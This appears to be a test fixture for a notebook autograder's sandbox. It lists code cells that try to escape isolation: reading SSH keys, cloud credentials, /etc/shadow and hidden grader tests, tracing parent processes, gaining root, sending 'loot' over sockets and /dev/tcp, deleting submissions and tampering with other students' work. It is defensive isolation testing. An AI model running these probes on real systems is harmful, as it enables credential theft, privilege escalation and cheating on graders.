"""Attempts to reach what is not the student's: each is a cell in work that is otherwise right.

None would do lasting harm to the machine where it succeeded.

`attempt(what, deed)` prints ACHIEVED if the deed raises nothing; `system(number, ...)` makes a
system call.
"""

from __future__ import annotations

TOOLS = """
import ctypes, os, socket, subprocess, sys
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, deed, *arguments):
    try:
        found = deed(*arguments)
    except BaseException as error:
        print("refused", what, type(error).__name__, str(error)[:80])
    else:
        print("ACHIEVED", what, repr(found)[:80])
def system(number, *arguments):
    found = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if type(a) is int else a for a in arguments])
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return found
def shell(command):
    done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=2)
    if done.returncode:
        raise OSError(done.stderr)
    return done.stdout
"""

REACHES = {
    "reads_the_course": """
for name in ("gradebook.db", "graders/sums/test_hidden.py", "source/sums/sums.ipynb", "nbgrader_config.py",
             "submitted/bystander/sums/sums.ipynb", ".proctor/verdicts/sums/bystander.json", "submitted", "graders",
             ".proctor/verdicts"):
    for root in (COURSE, "../..", "/proc/1/root" + COURSE, "/proc/1/cwd/" + COURSE, "/proc/self/root" + COURSE):
        path = os.path.join(root, name)
        attempt(path, open if os.path.splitext(name)[1] else os.listdir, path)""",
    "reads_home_and_system_secrets": """
for path in ("/root", "/home", "/etc/shadow", "/etc/ssh", "/var", "/run", "/opt", "/mnt", "/srv", "/boot", "/work",
             "~/.ssh/id_rsa", "~/.aws/credentials", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda",
             "/etc/sudoers", "/var/run/secrets", "/run/secrets", "/etc/machine-id", "/proc/sys/kernel/core_pattern"):
    path = os.path.expanduser(path)
    attempt(path, os.open, path, os.O_RDWR if path.startswith("/proc/sys") else os.O_RDONLY)""",
    "reads_its_environment": """
for source in [os.environ.items(), *[Path(f"/proc/{pid}/environ").read_bytes().split(b"\\0")
               for pid in os.listdir("/proc") if pid.isdigit() and os.access(f"/proc/{pid}/environ", os.R_OK)]]:
    for entry in source:
        if "SECRET" in str(entry) or CANARY in str(entry):
            print("ACHIEVED", entry)
attempt("pid 1", lambda: 1 / (CANARY.encode() in Path("/proc/1/environ").read_bytes()))""",
    "searches_its_own_memory": """
import gc
needle = bytes(reversed(b"na_fo_latot_tset fed"))  # not all of what it looks for, which would be found here
for line in Path("/proc/self/maps").read_text().splitlines():
    span, rights = line.split()[:2]
    start, end = (int(part, 16) for part in span.split("-"))
    if rights.startswith("rw") and end - start < 2**28 and "[v" not in line:
        try:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(start)
                found = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        where = found.find(needle)
        while where >= 0:
            if found[where + len(needle)] == ord("y"):
                print("ACHIEVED found hidden tests at", span)
            where = found.find(needle, where + 1)
        del found
for found in gc.get_objects():
    if type(found) is str and found.endswith("test_hidden" + ".py"):
        print("ACHIEVED", found)""",
    "looks_at_other_processes": """
others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid(), os.getppid())]
attempt("others", lambda: 1 / len(others))
for pid in {1, os.getppid()} - {os.getpid()}:
    for name in ("mem", "maps", "environ", "fd", "root", "cwd", "stack"):
        path = f"/proc/{pid}/{name}"
        read = lambda path: 1 / len(open(path, "rb").read(9))
        attempt(path, os.listdir if name in ("fd", "root", "cwd") else read, path)
attempt("cmdline", lambda: 1 / any("proctor grade" in Path(f"/proc/{pid}/cmdline").read_text().replace(chr(0), " ")
                                    for pid in os.listdir("/proc") if pid.isdigit()))""",
    "traces_its_parent": """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(64)
local, remote = Vector(ctypes.addressof(buffer), 64), Vector(id(os), 64)
for pid in {1, os.getppid()} - {os.getpid()}:
    attempt("ptrace", system, 101, 16, pid, 0, 0)
    attempt("seize", system, 101, 0x4206, pid, 0, 0)
    attempt("process_vm_readv", system, 310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    attempt("process_vm_writev", system, 311, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    attempt("pidfd_getfd", lambda: system(438, os.pidfd_open(pid), 3, 0))
    attempt("kcmp", system, 312, pid, os.getpid(), 0, 0, 0)""",
    "makes_namespaces": """
for name, flag in (("mount", 0x20000), ("user", 0x10000000), ("net", 0x40000000), ("pid", 0x20000000),
                   ("ipc", 0x8000000), ("uts", 0x4000000), ("cgroup", 0x2000000), ("time", 0x80)):
    def enter():
        if libc.unshare(flag):
            raise OSError(ctypes.get_errno(), "unshare")
    attempt("unshare " + name, enter)
def clone():
    pid = system(56, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid
attempt("clone user", clone)
def clone3():
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    pid = system(435, ctypes.byref(arguments), 88)
    if pid == 0:
        os._exit(0)
    return pid
attempt("clone3 user", clone3)
for name in ("mnt", "user", "pid", "net"):
    attempt("setns " + name, lambda: system(308, os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0))""",
    "changes_its_root": """
Path("here").mkdir()
def mount(source, target, kind, flags):
    if libc.mount(source, target, kind, ctypes.c_ulong(flags), b""):
        raise OSError(ctypes.get_errno(), "mount")
attempt("tmpfs", mount, b"none", b"here", b"tmpfs", 0)
attempt("proc", mount, b"none", b"here", b"proc", 0)
attempt("bind", mount, b"/", b"here", None, 4096)
attempt("remount", mount, b"none", b"/", None, 32 | 4096)
attempt("umount", lambda: system(166, b"/proc", 2))
attempt("chroot", os.chroot, "here")
attempt("pivot_root", system, 155, b"here", b"here")
attempt("fsopen", system, 430, b"tmpfs", 0)
attempt("open_tree", system, 428, -100, b"/", 1)
attempt("mount_setattr", system, 442, -100, b"/", 0, 0, 0)""",
    "calls_rare_parts_of_the_kernel": """
room = ctypes.create_string_buffer(256)
for name, number, arguments in (
    ("io_uring_setup", 425, (4, room)), ("bpf", 321, (0, room, 128)), ("keyctl", 250, (0, -3, 1)),
    ("add_key", 248, (b"user", b"x", b"y", 1, -3)), ("request_key", 249, (b"user", b"x", 0, -3)),
    ("userfaultfd", 323, (1,)), ("perf_event_open", 298, (room, 0, -1, -1, 0)), ("kexec_load", 246, (0, 0, 0, 0)),
    ("init_module", 175, (room, 8, b"")), ("finit_module", 313, (0, b"", 0)), ("delete_module", 176, (b"x", 0)),
    ("open_by_handle_at", 304, (-100, room, 0)), ("fanotify_init", 300, (0, 0)), ("swapon", 167, (b"x", 0)),
    ("reboot", 169, (0, 0, 0, 0)), ("settimeofday", 164, (room, 0)), ("sethostname", 170, (b"x", 1)),
    ("iopl", 172, (3,)), ("ioperm", 173, (0, 1, 1)), ("acct", 163, (b"x",)), ("quotactl", 179, (0, 0, 0, 0)),
    ("syslog", 103, (2, room, 8)), ("vhangup", 153, ()), ("nfsservctl", 180, (0, 0, 0)),
    ("modify_ldt", 154, (1, room, 16)),
):
    attempt(name, system, number, *arguments)""",
    "takes_other_processors": """
before = os.sched_getaffinity(0)
attempt("all", os.sched_setaffinity, 0, range(os.cpu_count()))
attempt("one", os.sched_setaffinity, 0, [min(before)])
attempt("taskset", shell, "taskset -p 1 $$ 2>/dev/null | grep 'new affinity'")
print(*(["ACHIEVED"] if os.sched_getaffinity(0) != before else []))""",
    "reads_beside_python": """
attempt("a course around Python", os.listdir, BESIDE)
attempt("its hidden tests", open, BESIDE + "/graders/sums/test_hidden.py")
attempt("a neighbour", lambda: 1 / (os.path.basename(BESIDE) in os.listdir(sys.prefix)))""",
    "becomes_root": """
for name, deed in (("setuid", os.setuid), ("setgid", os.setgid)):
    attempt(name, deed, 0)
attempt("setgroups", os.setgroups, [0])
attempt("mknod", os.mknod, "device", 0o20600, os.makedev(1, 1))
attempt("chown", os.chown, ".", 0, 0)
for program in ("su -c id", "sudo -n id", "mount -t tmpfs none here", "passwd -d root", "newgrp root </dev/null",
                "chsh -s /bin/sh", "umount /proc", "pkexec id", "doas id", "unshare -Ur id", "nsenter -t 1 -a id"):
    attempt(program, shell, program + " | grep -v uid=65534 | grep uid=0")
open("mine", "w").write("#!/bin/sh\\nid -u\\n")
os.chmod("mine", 0o6755)
attempt("setuid script", lambda: 1 / (shell("./mine").strip() == "0"))""",
    "uses_the_network": """
import urllib.request
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("169.254.169.254", 80)),
                        (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET6, ("::1", PORT))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        def connect():
            with socket.socket(family, kind) as opened:
                opened.settimeout(1)
                opened.connect(address)
                opened.send(b"loot")
        attempt(f"{family} {kind} {address}", connect)
attempt("dns", socket.getaddrinfo, "example.org", 80)
attempt("urllib", urllib.request.urlopen, f"http://127.0.0.1:{PORT}/", None, 1)
attempt("pip", shell, "exec timeout 2 " + sys.executable + " -m pip install --retries 0 --timeout 1 --target . six")
attempt("bash", shell, f"exec bash -c 'echo loot >/dev/tcp/127.0.0.1/{PORT}'")
attempt("dataset", lambda: __import__("keras").utils.get_file("x", f"http://127.0.0.1:{PORT}/x"))""",
    "opens_other_sockets": """
for name, family, kind in (("netlink", 16, 3), ("packet", 17, 3), ("vsock", 40, 1), ("raw", 2, 3), ("bluetooth", 31, 1),
                           ("alg", 38, 5), ("can", 29, 3), ("xdp", 44, 3), ("tipc", 30, 1), ("key", 15, 3),
                           ("rds", 21, 5)):
    attempt(name, lambda: socket.socket(family, kind).close())""",
    "uses_unix_sockets_of_the_host": """
def connect(path):
    with socket.socket(socket.AF_UNIX) as opened:
        opened.connect(path)
        opened.send(b"loot")
for path in (UNIX, "\\0" + ABSTRACT, "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0",
             "/run/containerd/containerd.sock", os.environ.get("SSH_AUTH_SOCK", "/tmp/agent")):
    attempt(repr(path), connect, path)
seen = open("/proc/net/unix").read() if os.path.exists("/proc/net/unix") else ""
attempt("list", lambda: 1 / (ABSTRACT in seen))""",
    "writes_to_the_system": """
import proctor, keras
for folder in ("/", "/usr", "/usr/bin", "/etc", "/lib", "/dev", "/proc", "/sys", "/proc/sys/kernel", "/tmp", "/var/tmp",
               sys.prefix, *(os.path.dirname(module.__file__) for module in (os, np, proctor))):
    attempt(folder, lambda: open(os.path.join(folder, "attack"), "w"))
attempt("usercustomize", lambda: open(os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "w"))
for path in ("/etc/passwd", proctor.__file__, sys.executable, np.__file__, "/usr/bin/env"):
    status = os.stat(path)
    attempt("append " + path, lambda: open(path, "a"))
    attempt("chmod " + path, os.chmod, path, status.st_mode & 0o7777)
    attempt("utime " + path, os.utime, path, (status.st_atime, status.st_mtime))
    attempt("link " + path, os.link, path, os.path.dirname(path) + "/attack")
attempt("rm", shell, f"rm -r {COURSE}/submitted")""",
    "edits_what_was_handed_in": """
for student in ("bystander", "edits_what_was_handed_in"):
    path = f"{COURSE}/submitted/{student}/sums/sums.ipynb"
    for deed in (os.unlink, os.stat, lambda path: os.rename(path, path + "~"), lambda path: os.link(path, "link"),
                 lambda path: os.truncate(path, 0), lambda path: open(path, "w"), lambda path: os.chmod(path, 0)):
        attempt(path, deed, path)""",
    "signals_everybody": """
import signal
attempt("kill -1", os.kill, -1, 0)
for pid in range(2, 400):
    if pid not in (os.getpid(), os.getppid()):
        try:
            os.kill(pid, 0)
            print("ACHIEVED could signal", pid)
        except OSError:
            pass
for number in (9, 15, 19, 1):
    try:
        os.kill(1, number)  # the kernel drops what the first process of a namespace gets from within
    except OSError:
        pass""",
    "leaves_state_for_the_next": """
import keras
for path in ("/tmp/left", os.path.expanduser("~/left"), "/dev/shm/left", "../left", "/var/tmp/left",
             os.path.expanduser("~/.keras/keras.json"),
             os.path.expanduser("~/.ipython/profile_default/startup/left.py")):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write('{"floatx": "float16"}')
    except OSError:
        pass
keras.config.set_floatx("float16")
np.left = os.environ["LEFT"] = "left"
sys.path.append("left")""",
    "looks_for_what_others_left": """
import keras
for folder in ("/tmp", "/dev/shm", "..", ".", "/var/tmp", os.path.expanduser("~")):
    attempt(folder, lambda: 1 / ("left" in os.listdir(folder)))
attempt("keras", lambda: 1 / (keras.config.floatx() == "float16"))
attempt("numpy", lambda: np.left)
attempt("environment", lambda: os.environ["LEFT"])
attempt("neighbours", lambda: 1 / (len(os.listdir("..")) > 1))""",
    "uses_open_descriptors": """
import stat
for name in os.listdir("/proc/self/fd"):
    number = int(name)
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(kind):
        print("ACHIEVED a folder's descriptor", number, os.readlink(f"/proc/self/fd/{number}"))
    target = os.readlink(f"/proc/self/fd/{number}")
    if stat.S_ISREG(kind) and number > 2 and not target.startswith((os.getcwd(), "/usr", sys.prefix)):
        print("ACHIEVED a file's descriptor", number, target)
import array
for number in range(3, 64):
    def pass_on():
        opened = socket.socket(fileno=os.dup(number))
        opened.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            pass_on()
    except OSError:
        pass""",
    "escapes_through_magics": """
get_ipython().run_line_magic("load_ext", "autoreload")
get_ipython().run_line_magic("autoreload", "2")
for line in ("run " + COURSE + "/source/sums/sums.ipynb", "load " + COURSE + "/graders/sums/test_hidden.py",
             "run ../../source/sums/sums.ipynb", "loadpy /root/.bashrc", "cd " + COURSE, "store -r",
             "pip install --retries 0 --timeout 1 six"):
    try:
        get_ipython().run_line_magic(*line.split(" ", 1))
    except BaseException as error:
        print("refused", line, error)
attempt("history", lambda: 1 / len(list(get_ipython().history_manager.search("*"))))
get_ipython().system("cat " + COURSE + "/graders/sums/test_hidden.py && echo ACHIEVED cat")
get_ipython().run_cell_magic("bash", "", "cat " + COURSE + "/gradebook.db && echo ACHIEVED cat || true")""",
}
